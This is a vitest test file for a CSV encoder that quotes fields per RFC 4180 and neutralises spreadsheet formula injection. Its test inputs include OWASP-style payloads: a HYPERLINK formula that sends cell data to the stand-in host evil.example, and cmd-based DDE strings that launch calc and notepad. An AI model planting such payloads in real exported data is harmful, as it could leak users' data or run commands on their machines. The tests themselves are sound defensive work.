import { describe, expect, it } from 'vitest';
import { csvField, renderCsv } from '../src/report/csv.js';
import type { ArticleResult } from '../src/types.js';

describe('csvField (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['he said "no"', '"he said ""no"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    [null, ''],
    [undefined, ''],
    [12, '12'],
    [-3, '-3'],
    [false, 'false'],
    ['“curly”', '“curly”'],
    ['a=b', 'a=b'],
    [' =1+1', ' =1+1'],
  ])('%j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe('csvField: cells from input never start as a formula (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ["+cmd|' /C notepad'!'A1'", `'+cmd|' /C notepad'!'A1'`],
    ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
    ['=1+1', "'=1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=a,b', `"'=a,b"`],
  ])('%j → %j', (value, expected) => {
    const field = csvField(value);
    expect(field).toBe(expected);
    // Unquoted, the cell a spreadsheet sees starts with the quote, never with a formula character.
    const cell = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
    expect(cell).toBe(`'${value}`);
  });

  it('neutralises ids, outlets, speakers and quote text in rendered rows', () => {
    const result = {
      id: '=cmd',
      outlet: '@outlet',
      url: '=HYPERLINK("x")',
      wire: null,
      length: 10,
      segments: [],
      quotes: [
        {
          id: 'q1',
          start: 1,
          end: 9,
          text: '+SUM(A1)',
          contents: [],
          kind: 'direct',
          cue: { text: 'said', start: 0, end: 0, lemma: 'say' },
          speaker: { name: '-Mallory', start: 0, end: 0, anonymous: false, resolvedBy: 'name' },
          segment: 'body',
          coSpeakers: [{ name: '@Eve', start: 0, end: 0, anonymous: false, resolvedBy: 'name' }],
        },
      ],
      actors: [],
      mentions: [],
      framing: [],
      sentiment: [],
      diagnostics: [],
    } as unknown as ArticleResult;
    const [, row] = renderCsv([result], 'quotes', true).split('\r\n');
    expect(row).toBe(`'=cmd,'@outlet,q1,1,9,direct,'-Mallory,,false,said,say,body,,unaffiliated,'+SUM(A1),"'=HYPERLINK(""x"")",'@Eve,none`);
  });
});
